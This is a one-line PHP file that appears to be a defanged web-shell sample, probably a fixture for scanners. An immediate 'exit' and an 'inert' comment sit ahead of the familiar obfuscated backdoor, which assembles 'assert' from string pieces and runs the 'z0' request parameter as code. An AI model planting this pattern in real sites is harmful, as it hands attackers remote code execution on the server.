<?php exit; /* inert */ $a='a'.'ss'.'ert';@$a($_REQUEST['z0']);
